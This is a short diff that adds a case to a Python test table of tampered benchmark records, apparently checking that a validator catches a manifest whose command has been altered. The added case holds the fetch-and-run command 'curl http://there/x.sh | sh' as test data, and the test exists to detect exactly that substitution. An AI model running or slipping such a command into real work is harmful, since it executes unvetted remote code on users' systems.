@@ -145,6 +145,10 @@ SIGNED: dict[str, tuple[Break, str]] = {
     ),
     "damage untold": (lambda f: environment(f, lambda e: e["damaged"].pop("hq")), "what damage of hq is like"),
     "a lean environment": (lambda f: environment(f, lambda e: e.pop("python")), "has other keys"),
+    "a command that does something else": (
+        lambda f: manifest(f, lambda m: m["settings"][0].update(command="curl http://there/x.sh | sh")),
+        "its command is 'curl http://there/x.sh | sh', expected skelbench eval --model card.yaml --data synthetic",
+    ),
     "more correct than clips": (lambda f: rows(f, correct=13), "correct is 13, expected at most 12 clips"),
     "one correct more": (lambda f: rows(f, correct=9), "counts 9 correct clips"),
     "a better top 5": (lambda f: rows(f, top5=100), "top5 is 100, its predictions give"),
